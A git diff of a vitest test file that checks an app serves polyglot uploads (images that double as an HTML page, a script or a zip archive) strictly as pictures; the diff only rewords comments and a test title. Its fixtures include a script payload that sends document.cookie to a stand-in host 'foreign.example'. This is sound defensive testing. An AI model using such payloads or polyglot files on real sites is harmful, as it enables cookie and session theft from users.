@@ -3,11 +3,11 @@ import { expect, test } from 'vitest';
 import { animated, filePart, jpeg, png } from '../../testing/pictures.ts';
 import { testApp } from '../../testing/test-app.ts';
 
-/** Files that are two things at once: a picture to a decoder, and a page, a script or an archive to somebody else. */
+/** Files that are two things at once: a picture to a decoder, and a page, a script or an archive to another program. */
 
 const page = Buffer.from('<!doctype html><script>alert("foreign")</script>');
 const script = Buffer.from('*/=1;fetch("//foreign.example/"+document.cookie)//');
-/** Found from its end, as archives are: whatever stands before it belongs to nobody. */
+/** An archive is read from its end: bytes before it are ignored. */
 const archive = Buffer.concat([
   Buffer.from('PK\x03\x04foreign.html', 'latin1'),
   page,
@@ -40,7 +40,7 @@ const files = {
     filePart(gifAnd(await animated('gif'), script, archive), 'party.js', 'text/javascript'),
 };
 
-test.each(Object.entries(files))('%s is a picture, and nothing else comes out', async (_what, make) => {
+test.each(Object.entries(files))('%s is served as a picture and nothing else', async (_what, make) => {
   const { ada, bob, app } = await testApp('ada', 'bob');
   const file = await make();
   const sent = Buffer.from(await file.arrayBuffer());
